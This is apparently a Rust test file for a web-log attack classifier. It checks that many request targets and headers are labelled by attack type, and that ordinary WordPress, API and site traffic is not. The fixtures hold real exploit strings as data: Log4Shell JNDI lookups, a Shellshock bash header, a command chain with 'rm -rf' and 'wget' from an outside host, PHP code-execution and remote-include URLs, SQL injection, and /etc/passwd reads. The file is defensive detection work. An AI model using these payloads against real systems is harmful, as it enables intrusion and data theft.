use super::*;

fn of(method: &str, target: &str, status: u16) -> Option<Attack> {
    classify(&Request { method, target, status: Some(status), ..Request::default() })
}

#[test]
fn every_class_is_known_by_its_text() {
    for (target, class) in [
        ("/?q=${jndi:ldap://1.2.3.4/a}", Attack::Log4Shell),
        ("/?q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap", Attack::Log4Shell),
        ("/cgi-bin/status?x=()%20{%20:;};", Attack::Shellshock),
        ("/ping?host=127.0.0.1;id;", Attack::Command),
        ("/evil.php?cmd=uname+-a", Attack::Command),
        ("/evil.php?cmd=ver%3B+uname+-a", Attack::Command),
        ("/cgi-bin/.%2e/%2e%2e/%2e%2e/bin/sh", Attack::Command),
        ("/setup.cgi?todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://1.2.3.4/m", Attack::Command),
        ("/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", Attack::Code),
        ("/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func", Attack::Code),
        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", Attack::Code),
        ("/$%7B(\"TextString\"+\"123456\")%7D/actionChain1.action", Attack::Code),
        ("/%252E%252E%252Ffoo1", Attack::Traversal),
        ("/static/%2e%2e/%2e%2e/conf", Attack::Traversal),
        ("/files/..%c0%af..%c0%afx", Attack::Traversal),
        ("/%2fetc%2fpasswd", Attack::FileRead),
        ("/c:/win.ini", Attack::FileRead),
        ("/view?file=....//....//etc/passwd", Attack::Traversal),
        ("/index.php?n=http://host.example/pizza.htm?", Attack::RemoteInclude),
        ("/index.php?page=http://1.2.3.4/c99.txt", Attack::RemoteInclude),
        ("/foo?a=%20union%20all%20select%20", Attack::Sql),
        ("/foo?a=1/**/UNION/**/SELECT/**/2", Attack::Sql),
        ("/foo?a=%7c%7cchr%28", Attack::Sql),
        ("/boaform/admin/formLogin", Attack::KnownExploit),
        ("/.git/config", Attack::Secret),
        ("/api/.env", Attack::Secret),
        ("/?x=<script>alert(1)</script>", Attack::CrossSite),
        ("//admin/pma/scripts/setup.php", Attack::KnownExploit),
        ("/wp-login.php", Attack::Probe),
        ("/cgi-bin/recent.cgi", Attack::Probe),
        ("http://judge.example/", Attack::Proxy),
    ] {
        assert_eq!(of("GET", target, 404), Some(class), "{target}");
    }
}

#[test]
fn headers_tell_too() {
    let with = |user_agent: &str, referrer: &str| {
        classify(&Request { method: "GET", target: "/", referrer, user_agent, status: Some(200) })
    };
    assert_eq!(with("${jndi:ldap://x/a}", "-"), Some(Attack::Log4Shell));
    assert_eq!(with("-", "() { :;}; /bin/bash -c id"), Some(Attack::Shellshock));
    assert_eq!(with("sqlmap/1.7#stable (https://sqlmap.org)", "-"), Some(Attack::Scanner));
    assert_eq!(with("Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0", "-"), None);
    assert_eq!(
        with("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "-"),
        None
    );
}

#[test]
fn what_is_no_http_is_malformed() {
    for (target, status) in [
        ("\\x16\\x03\\x01\\x02\\x00\\x01", 400),
        ("\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr", 400),
        ("", 400),
        ("-", 400),
        ("HELP", 400),
        ("batman", 400),
        ("\u{1}\u{2}", 200),
    ] {
        assert_eq!(of("", target, status), Some(Attack::Malformed), "{target}");
    }
    assert_eq!(of("", "-", 408), None, "a browser's spare connection");
    assert_eq!(of("CONNECT", "1.2.3.4:443", 400), Some(Attack::Proxy));
    assert_eq!(of("CONNECT", "1.2.3.4:443", 200), None, "a proxy that is meant to be one");
}

/// What an ordinary WordPress site, a shop, an API and a single-page application are asked for.
#[test]
fn an_ordinary_site_is_not_attacked_by_its_visitors() {
    for (target, status) in [
        ("/", 200),
        ("/index.php", 200),
        ("/wp-login.php", 200),
        ("/wp-login.php?redirect_to=https%3A%2F%2Fexample.com%2Fwp-admin%2F&reauth=1", 200),
        ("/wp-admin/admin-ajax.php", 400),
        ("/wp-admin/admin-ajax.php?action=heartbeat", 403),
        ("/wp-admin/load-scripts.php?c=1&load%5Bchunk_0%5D=jquery-core,jquery-migrate,utils", 200),
        ("/wp-admin/post.php?post=12&action=edit", 200),
        ("/wp-json/wp/v2/posts?per_page=10&_fields=id%2Ctitle", 200),
        ("/wp-json/wp/v2/users/me?_locale=user", 401),
        ("/wp-cron.php?doing_wp_cron=1763900000.1234567890123456789", 200),
        ("/wp-content/uploads/2026/11/photo-300x200.jpg", 200),
        ("/wp-content/plugins/elementor/assets/js/frontend.min.js?ver=3.1.4", 200),
        ("/xmlrpc.php", 405),
        ("/feed/", 304),
        ("/?s=how+to+select+a+union+hall", 200),
        ("/?s=drop+shipping+%26+sleep", 200),
        ("/search?q=C%2B%2B+%26+C%23+%E6%AD%A2%E8%A1%80", 200),
        ("/search?q=it%27s+%22quoted%22", 200),
        ("/login?next=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc", 302),
        ("/redirect?url=http://example.com/page", 302),
        ("/oauth/callback?code=4/0AX4XfWh&state=eyJhIjoiYiJ9%3D%3D", 200),
        ("/share?u=https://example.com/x.html", 200),
        ("/assets/index-4f2a1c.js", 200),
        ("/assets/app.css.map", 404),
        ("/favicon.ico", 404),
        ("/apple-touch-icon-precomposed.png", 404),
        ("/robots.txt", 404),
        ("/ads.txt", 404),
        ("/.well-known/acme-challenge/FMuukC2JOJ5HKmLBujjE_BkDo", 404),
        ("/.well-known/change-password", 404),
        ("/api/v1/orders?filter=created_at%3E2026-01-01&sort=-id", 200),
        ("/odata/People?$filter=substring(Name,1)%20eq%20%27a%27", 200),
        ("/api/files?path=..%2Fshared%2Fimage.png", 200),
        ("/theme/css/../img/a.png", 200),
        ("/healthz", 200),
        ("/metrics", 200),
        ("/connector?cmd=open&target=l1_Lw&init=1", 200),
        ("/connector?cmd=ls&target=l1_Lw", 200),
        ("/graphql?query=%7Bme%7Bid%20name%7D%7D", 200),
        ("/cgi-bin/mailman/listinfo", 200),
        ("/phpmyadmin/index.php?route=/sql", 200),
        ("/admin/", 302),
        ("/projects/app.git/info/refs?service=git-upload-pack", 200),
        ("/blog/2026/11/the-100%-renewable-grid/", 404),
        ("/%E4%B8%AD%E6%96%87/%E9%A1%B5%E9%9D%A2", 200),
        ("/img/100%25.png", 200),
        ("/page?a=1&b=2+3&c=%2B", 200),
        ("/solr/products/select?q=*:*", 200),
        ("/environment", 404),
    ] {
        assert_eq!(of("GET", target, status), None, "{target} {status}");
    }
}

#[test]
fn hostile_text_costs_little_and_breaks_nothing() {
    let long = format!("/?a={}", "%25".repeat(100_000));
    assert_eq!(of("GET", &long, 200), None);
    let dots = format!("/{}", "../".repeat(100_000));
    assert_eq!(of("GET", &dots, 404), Some(Attack::Traversal));
    for end in 0..40 {
        let text = "/?a=%25%32%65%c0%ae\\x2e%u002e/..;/${${"; // every cut of it
        let _any = of("GET", text.get(..end).unwrap_or(text), 200);
    }
    assert!(Attack::ALL.iter().all(|&class| Attack::from_name(class.name()) == Some(class)));
}

#[test]
fn missing_files_of_error_logs() {
    assert_eq!(classify_missing("/var/www/phpmyadmin"), Some(Attack::Probe));
    assert_eq!(classify_missing("/home/me/public_html/azenv.php"), Some(Attack::Probe));
    assert_eq!(classify_missing("/var/www/html/favicon.ico"), None);
}
